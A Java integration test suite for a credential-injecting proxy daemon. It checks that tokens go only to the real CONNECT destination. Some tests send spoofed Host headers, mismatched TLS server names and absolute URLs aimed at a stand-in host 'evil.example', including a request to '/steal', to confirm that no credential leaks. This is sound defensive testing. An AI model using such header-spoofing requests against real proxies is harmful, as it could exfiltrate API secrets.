package io.credproxy.daemon.it;

import static io.credproxy.daemon.it.DaemonFixture.CLOUDFLARE;
import static io.credproxy.daemon.it.DaemonFixture.EVIL;
import static io.credproxy.daemon.it.InjectionIT.single;
import static org.assertj.core.api.Assertions.assertThat;

import io.credproxy.protocol.report.AuditEvent;
import io.credproxy.protocol.report.Decision;
import io.credproxy.testing.RecordedRequest;
import io.credproxy.testing.TestPki;
import javax.net.ssl.SSLContext;
import org.junit.jupiter.api.Test;

/**
 * The credential follows the real destination (the CONNECT authority), never the Host header or
 * the TLS server name: the seed's leak (CONNECT evil.example + Host: api.cloudflare.com sent the
 * Cloudflare token to evil.example) and its mirror images.
 */
class DestinationIT extends InProcessDaemonIT {
    @Test
    void connectToEvilWithACloudflareHostHeaderGetsNoCredential() throws Exception {
        // evil.example has no rule: the daemon tunnels it untouched, whatever the Host header says.
        Curl.Result r = fx.curlTrusting(fx.upstreamCaPem, "-H", "Host: " + CLOUDFLARE, "https://" + EVIL + "/steal");

        assertThat(r.status()).as(r.stderr()).isEqualTo(200);
        RecordedRequest seen = single(fx.https.requests());
        assertThat(seen.firstHeader("Host")).isEqualTo(CLOUDFLARE);
        assertThat(seen.sniHost()).isEqualTo(EVIL);
        assertThat(seen.header("Authorization")).isEmpty();
        assertThat(single(fx.eventsFor(EVIL)).decision()).isEqualTo(Decision.TUNNEL);
        assertThat(fx.events).noneMatch(e -> e.host().equals(CLOUDFLARE));
    }

    @Test
    void connectToCloudflareWithAnEvilHostHeaderIsMisdirected() throws Exception {
        Curl.Result r = fx.curl("-H", "Host: " + EVIL, "https://" + CLOUDFLARE + "/client/v4/zones");

        assertThat(r.status()).as(r.stderr()).isEqualTo(421);
        assertThat(r.body()).contains("Host header does not match the CONNECT target");
        assertThat(fx.https.requests()).isEmpty();
        AuditEvent event = single(fx.eventsFor(CLOUDFLARE));
        assertThat(event.decision()).isEqualTo(Decision.DENIED);
        assertThat(event.secretNames()).isEmpty();
        assertThat(event.status()).isEqualTo(421);
    }

    @Test
    void aTlsServerNameOtherThanTheConnectTargetIsMisdirected() throws Exception {
        try (RawClient client = fx.raw()) {
            assertThat(client.connect(CLOUDFLARE + ":443").status()).isEqualTo(200);
            client.startTls(daemonTrust(), EVIL);
            client.send("GET /client/v4/zones HTTP/1.1\r\nHost: " + CLOUDFLARE + "\r\n\r\n");
            RawClient.Response response = client.readResponse();

            assertThat(response.status()).isEqualTo(421);
            assertThat(response.body()).contains("TLS server name does not match the CONNECT target");
        }
        assertThat(fx.https.requests()).isEmpty();
        assertThat(single(fx.eventsFor(CLOUDFLARE)).decision()).isEqualTo(Decision.DENIED);
    }

    @Test
    void anAbsoluteUrlInsideTheTunnelNamingAnotherHostIsMisdirected() throws Exception {
        try (RawClient client = fx.raw()) {
            client.connect(CLOUDFLARE + ":443");
            client.startTls(daemonTrust(), CLOUDFLARE);
            client.send("GET https://" + EVIL + "/x HTTP/1.1\r\nHost: " + CLOUDFLARE + "\r\n\r\n");

            assertThat(client.readResponse().status()).isEqualTo(421);
        }
        assertThat(fx.https.requests()).isEmpty();
    }

    @Test
    void matchingNamesWithoutSniAndWithAnExplicitPortAreServed() throws Exception {
        try (RawClient client = fx.raw()) {
            client.connect(CLOUDFLARE + ":443");
            client.startTls(daemonTrust(), null);
            client.send("GET /one HTTP/1.1\r\nHost: " + CLOUDFLARE + ":443\r\n\r\n");
            assertThat(client.readResponse().status()).isEqualTo(200);
            client.send("GET https://" + CLOUDFLARE + "/two HTTP/1.1\r\nHost: API.Cloudflare.com\r\n\r\n");
            assertThat(client.readResponse().status()).isEqualTo(200);
        }
        assertThat(fx.https.requests()).hasSize(2).allSatisfy(seen ->
                assertThat(seen.header("Authorization")).containsExactly("Bearer " + fx.secret("CLOUDFLARE_D1_API_TOKEN")));
        assertThat(fx.https.requests()).extracting(RecordedRequest::uri).containsExactly("/one", "/two");
    }

    @Test
    void traceToAnInterceptedHostIsRefused() throws Exception {
        Curl.Result r = fx.curl("-X", "TRACE", "https://" + CLOUDFLARE + "/");

        assertThat(r.status()).as(r.stderr()).isEqualTo(405);
        assertThat(fx.https.requests()).isEmpty();
    }

    @Test
    void aConnectTargetIsMatchedCaseInsensitively() throws Exception {
        Curl.Result r = fx.curl("https://API.CLOUDFLARE.COM/client/v4/zones");

        assertThat(r.status()).as(r.stderr()).isEqualTo(200);
        assertThat(single(fx.https.requests()).header("Authorization")).hasSize(1);
    }

    private static SSLContext daemonTrust() throws Exception {
        return TestPki.trusting(fx.daemonCa());
    }
}
